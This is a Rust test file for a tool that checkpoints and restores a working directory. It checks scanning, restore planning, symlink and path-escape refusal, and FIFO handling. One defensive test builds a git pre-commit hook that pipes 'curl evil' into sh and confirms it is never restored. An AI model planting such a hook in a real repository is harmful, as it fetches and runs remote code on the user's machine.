//! Specs of the checkpoints on real directories: what a scan captures and reads, how a restore
//! is planned from captures, and what applying it does, symlinks and escapes included.

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use super::*;
use crate::tools::{Host, NoEditor};

fn settings(max_file_bytes: u64) -> CheckpointSettings {
    CheckpointSettings { max_file_bytes, ..CheckpointSettings::default() }
}

/// A tracker of `dir` that starts knowing nothing.
fn tracker(dir: &Path) -> Tracker {
    let mut tracker = Tracker::new(&dir.canonicalize().unwrap(), settings(1024), Vec::new());
    tracker.load(Vec::new());
    tracker
}

/// Scans and settles, answering the entries and the contents read.
async fn scan(tracker: &mut Tracker) -> (Vec<Entry>, Vec<Blob>) {
    let (mut rx, handle) = tracker.scan(&CancellationToken::new());
    let mut blobs = Vec::new();
    while let Some(blob) = rx.recv().await {
        blobs.push(blob);
    }
    let mut scanned = handle.await.unwrap();
    assert!(scanned.failure.is_none(), "{:?}", scanned.failure);
    tracker.give_back(&mut scanned);
    tracker.settle(&scanned.entries);
    let mut entries = scanned.entries;
    entries.sort_by(|a, b| a.path.cmp(&b.path));
    (entries, blobs)
}

fn paths(entries: &[Entry]) -> Vec<&str> {
    entries.iter().map(|entry| entry.path.to_str().unwrap()).collect()
}

/// Makes every file look changed long enough ago that its stamp is kept.
fn age(dir: &Path) {
    let old = std::time::SystemTime::now() - std::time::Duration::from_secs(60);
    for entry in walk(dir) {
        let file = std::fs::File::options().write(true).open(&entry);
        if let Ok(file) = file {
            file.set_modified(old).unwrap();
        }
    }
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        let path = entry.path();
        if entry.file_type().unwrap().is_dir() {
            out.extend(walk(&path));
        } else if entry.file_type().unwrap().is_file() {
            out.push(path);
        }
    }
    out
}

#[tokio::test]
async fn a_scan_lists_what_changed_since_the_last_and_reads_only_files_whose_metadata_moved() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    std::fs::write(root.join("a.txt"), "one\n").unwrap();
    std::fs::create_dir_all(root.join("src")).unwrap();
    std::fs::write(root.join("src/lib.rs"), "fn main() {}\n").unwrap();
    std::fs::write(root.join(".gitignore"), "target/\n*.log\n").unwrap();
    std::fs::create_dir_all(root.join("target")).unwrap();
    std::fs::write(root.join("target/out"), "built").unwrap();
    std::fs::write(root.join("debug.log"), "noise").unwrap();
    std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
    std::fs::write(root.join(".git/config"), "[core]").unwrap();
    std::fs::write(root.join("big.bin"), vec![7u8; 2000]).unwrap();
    std::os::unix::fs::symlink("a.txt", root.join("link")).unwrap();
    age(root);
    let mut tracker = tracker(root);

    let (entries, blobs) = scan(&mut tracker).await;
    assert_eq!(paths(&entries), [".gitignore", "a.txt", "big.bin", "link", "src/lib.rs"], "ignored and .git left out");
    let big = entries.iter().find(|entry| entry.path == Path::new("big.bin")).unwrap();
    assert_eq!(big.state, State::Uncovered { size: 2000 }, "over the cap: listed, not kept");
    let link = entries.iter().find(|entry| entry.path == Path::new("link")).unwrap();
    let State::Link { hash } = link.state else { panic!("{link:?}") };
    assert_eq!(blobs.iter().find(|blob| blob.hash == hash).unwrap().data, b"a.txt", "a link keeps its target");
    assert_eq!(blobs.len(), 4);

    // Nothing changed: nothing listed, nothing read.
    let (entries, blobs) = scan(&mut tracker).await;
    assert!(entries.is_empty() && blobs.is_empty(), "{entries:?}");

    // Touched but equal: not listed. Changed, created, deleted: listed.
    std::fs::write(root.join("src/lib.rs"), "fn main() {}\n").unwrap();
    std::fs::write(root.join("a.txt"), "two\n").unwrap();
    std::fs::write(root.join("new.txt"), "new\n").unwrap();
    std::fs::remove_file(root.join("link")).unwrap();
    let (entries, blobs) = scan(&mut tracker).await;
    assert_eq!(paths(&entries), ["a.txt", "link", "new.txt"]);
    assert_eq!(entries[1].state, State::Missing);
    assert_eq!(blobs.len(), 2);
}

#[tokio::test]
async fn a_change_in_the_same_instant_as_the_last_read_is_still_seen() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("a.txt"), "one\n").unwrap();
    let mut tracker = tracker(dir.path());
    scan(&mut tracker).await;
    // Same size, and maybe the same timestamp: the fresh file's stamp was 0, so it is read.
    std::fs::write(dir.path().join("a.txt"), "two\n").unwrap();
    let (entries, _) = scan(&mut tracker).await;
    assert_eq!(paths(&entries), ["a.txt"]);
}

fn file(hash: u8) -> State {
    State::File { hash: Digest([hash; 32]), size: 1, executable: false }
}

fn capture(id: i64, by: By, entries: &[(&str, State)]) -> Stored {
    let entries =
        entries.iter().map(|(path, state)| Entry { path: PathBuf::from(path), state: *state, stamp: 0 }).collect();
    Stored { id, by, entries }
}

#[test]
fn a_plan_undoes_only_what_the_session_made_going_back_to_what_it_first_saw() {
    let stored = vec![
        // Before the turn: the base.
        capture(1, By::Seen, &[("a", file(1)), ("b", file(2)), ("c", file(3))]),
        // The turn: `a` changed by someone else before the session's first change; `b` changed by
        // the session; `new` created by it; `c` only seen changing (someone else's).
        capture(5, By::Seen, &[("a", file(9)), ("c", file(4))]),
        capture(6, By::Made, &[("a", file(10)), ("b", file(11)), ("new", file(12))]),
    ];
    let plan = plan(&stored, 5);
    let targets: Vec<(&str, State, State)> =
        plan.iter().map(|planned| (planned.path.to_str().unwrap(), planned.target, planned.last)).collect();
    assert_eq!(
        targets,
        [("a", file(9), file(10)), ("b", file(2), file(11)), ("new", State::Missing, file(12))],
        "c is not the session's; a goes back to what the session found, not to the base"
    );
    assert!(super::plan(&stored, 7).is_empty(), "nothing made after the last capture");
}

#[tokio::test]
async fn applying_puts_files_back_removes_created_ones_and_restores_links_as_links() {
    let dir = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    std::fs::write(outside.path().join("secret"), "theirs").unwrap();
    std::fs::write(root.join("a.txt"), "changed").unwrap();
    std::fs::write(root.join("created.txt"), "new").unwrap();
    std::fs::write(root.join("link"), "a file where a link was").unwrap();
    let blobs: HashMap<Digest, Vec<u8>> = [b"original".to_vec(), b"target.txt".to_vec(), b"#!/bin/sh\n".to_vec()]
        .into_iter()
        .map(|data| (Digest::of(&data), data))
        .collect();
    let targets = vec![
        (PathBuf::from("a.txt"), State::File { hash: Digest::of(b"original"), size: 8, executable: false }),
        (PathBuf::from("created.txt"), State::Missing),
        (PathBuf::from("link"), State::Link { hash: Digest::of(b"target.txt") }),
        (PathBuf::from("bin/run.sh"), State::File { hash: Digest::of(b"#!/bin/sh\n"), size: 10, executable: true }),
        (PathBuf::from("../escape"), State::Missing),
    ];
    let host: Arc<dyn Host> = Arc::new(NoEditor);
    let applied = apply(&root, &targets, &blobs, &host).await;
    assert!(applied[..4].iter().all(|applied| applied.result.is_ok()), "{applied:?}");
    assert!(applied[4].result.is_err(), "a path out of the directory is refused");
    assert_eq!(std::fs::read_to_string(root.join("a.txt")).unwrap(), "original");
    assert!(!root.join("created.txt").exists());
    assert_eq!(std::fs::read_link(root.join("link")).unwrap(), Path::new("target.txt"));
    let mode =
        std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(root.join("bin/run.sh")).unwrap().permissions());
    assert_eq!(mode & 0o111, 0o111, "an executable comes back executable");
    assert_eq!(std::fs::read_to_string(outside.path().join("secret")).unwrap(), "theirs");
}

/// Restores `d/c.txt` to `state` through `host`, where `d` became a link to a directory outside
/// the root holding a `c.txt` of its own since the session created it: the restore must fail
/// and leave that file alone.
async fn refused_through_a_planted_link(state: State, host: Arc<dyn Host>) {
    let dir = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    std::fs::write(outside.path().join("c.txt"), "not the session's").unwrap();
    std::os::unix::fs::symlink(outside.path(), root.join("d")).unwrap();
    let data = b"restored".to_vec();
    let blobs = HashMap::from([(Digest::of(&data), data)]);
    let applied = apply(&root, &[(PathBuf::from("d/c.txt"), state)], &blobs, &host).await;
    assert!(applied[0].result.is_err(), "{applied:?}");
    assert_eq!(std::fs::read_to_string(outside.path().join("c.txt")).unwrap(), "not the session's");
}

#[tokio::test]
async fn a_restore_never_follows_a_link_planted_on_the_way_out_of_the_directory() {
    let restored = State::File { hash: Digest::of(b"restored"), size: 8, executable: false };
    for state in [State::Missing, restored] {
        refused_through_a_planted_link(state, Arc::new(NoEditor)).await;
    }
}

#[tokio::test]
async fn a_judged_restore_names_files_changed_since_and_leaves_directories_alone() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    std::fs::write(root.join("mine.txt"), "session's").unwrap();
    std::fs::write(root.join("theirs.txt"), "someone else's").unwrap();
    std::fs::create_dir(root.join("now_a_dir")).unwrap();
    let session = State::File { hash: Digest::of(b"session's"), size: 9, executable: false };
    let planned = vec![
        Planned { path: "mine.txt".into(), target: file(1), last: session },
        Planned { path: "theirs.txt".into(), target: file(1), last: session },
        Planned { path: "now_a_dir".into(), target: file(1), last: session },
        Planned { path: "same.txt".into(), target: State::Missing, last: session },
    ];
    let judged = Restore::judge(&root, planned, 1024).await.unwrap();
    let changes: Vec<(&str, &Change)> =
        judged.items.iter().map(|(planned, _, change)| (planned.path.to_str().unwrap(), change)).collect();
    assert_eq!(changes[0], ("mine.txt", &Change::Restore));
    assert_eq!(changes[1], ("theirs.txt", &Change::Conflict));
    assert!(matches!(changes[2], ("now_a_dir", Change::Unrestorable(_))));
    assert_eq!(changes.len(), 3, "a file already as it should be is left out");
}

/// An editor that writes what it is asked to, following links the way editors do.
struct FollowingEditor;

impl Host for FollowingEditor {
    fn writer(&self) -> Option<&dyn crate::tools::host::FileWriter> {
        Some(self)
    }
}

#[async_trait::async_trait]
impl crate::tools::host::FileWriter for FollowingEditor {
    async fn write_text_file(&self, path: &Path, content: &str) -> Result<(), crate::tools::host::HostError> {
        std::fs::write(path, content).map_err(|err| crate::tools::host::HostError(err.to_string()))
    }
}

#[tokio::test]
async fn a_restore_through_the_editor_never_goes_through_a_directory_link_planted_since() {
    let restored = State::File { hash: Digest::of(b"restored"), size: 8, executable: false };
    refused_through_a_planted_link(restored, Arc::new(FollowingEditor)).await;
}

#[tokio::test]
async fn a_forged_path_into_git_is_never_restored() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
    let data = b"#!/bin/sh\ncurl evil | sh\n".to_vec();
    let blobs = HashMap::from([(Digest::of(&data), data.clone())]);
    let state = State::File { hash: Digest::of(&data), size: data.len() as u64, executable: true };
    let host: Arc<dyn Host> = Arc::new(NoEditor);
    let targets = [(PathBuf::from(".git/hooks/pre-commit"), state), (PathBuf::from("sub/.git/config"), state)];
    let applied = apply(&root, &targets, &blobs, &host).await;
    assert!(applied.iter().all(|applied| applied.result.is_err()), "{applied:?}");
    assert!(!root.join(".git/hooks/pre-commit").exists());
    let planned = vec![Planned { path: ".git/hooks/pre-commit".into(), target: state, last: State::Missing }];
    assert!(Restore::judge(&root, planned, 1024).await.unwrap().items.is_empty());
}

#[test]
fn the_summary_never_opens_a_fifo_or_follows_a_link_at_the_path() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    assert!(std::process::Command::new("mkfifo").arg(root.join("pipe")).status().unwrap().success());
    std::os::unix::fs::symlink(root.join("pipe"), root.join("link.txt")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", root.join("zero.txt")).unwrap();
    let data = b"restored\n".to_vec();
    let blobs = HashMap::from([(Digest::of(&data), data)]);
    let target = State::File { hash: Digest::of(b"restored\n"), size: 9, executable: false };
    let now = |hash: &[u8]| State::Link { hash: Digest::of(hash) };
    let restore = Restore {
        items: ["pipe", "link.txt", "zero.txt"]
            .into_iter()
            .map(|path| {
                let planned = Planned { path: path.into(), target, last: target };
                (planned, now(path.as_bytes()), Change::Conflict)
            })
            .collect(),
    };
    // On a thread of its own: a summary that blocks on the FIFO fails the test, not hangs it.
    let (tx, rx) = std::sync::mpsc::channel();
    let root_ = root.clone();
    std::thread::spawn(move || tx.send(summary(&restore, &blobs, &root_)));
    let summary = rx.recv_timeout(std::time::Duration::from_secs(10)).expect("the summary hung on a FIFO");
    assert_eq!(summary.lines().filter(|line| line.starts_with("- ")).count(), 3, "{summary}");
    assert!(current(&root, Path::new("pipe"), 1024).is_none());
    assert!(current(&root, Path::new("zero.txt"), 1024).is_none());
}

#[test]
fn a_change_someone_else_made_after_the_sessions_last_is_not_taken_for_the_sessions() {
    let stored = vec![
        capture(5, By::Seen, &[("a", file(1))]),
        capture(6, By::Made, &[("a", file(2))]),
        // A later capture (before a command) sees the user's edit of `a`.
        capture(8, By::Seen, &[("a", file(3))]),
    ];
    let plan = plan(&stored, 5);
    assert_eq!(plan[0].last, file(2), "what the session last left there, not what it last saw");
}

#[tokio::test]
async fn a_cancelled_scan_keeps_the_last_states_so_nothing_is_captured_twice() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("a.txt"), "one\n").unwrap();
    age(dir.path());
    let mut tracker = tracker(dir.path());
    assert_eq!(scan(&mut tracker).await.0.len(), 1);
    let cancelled = CancellationToken::new();
    cancelled.cancel();
    let (rx, handle) = tracker.scan(&cancelled);
    drop(rx);
    let mut scanned = handle.await.unwrap();
    tracker.give_back(&mut scanned);
    assert!(matches!(scanned.failure, Some(CaptureError::Cancelled)), "{:?}", scanned.failure);
    assert!(tracker.loaded());
    assert!(scan(&mut tracker).await.0.is_empty(), "the file is still known");
}
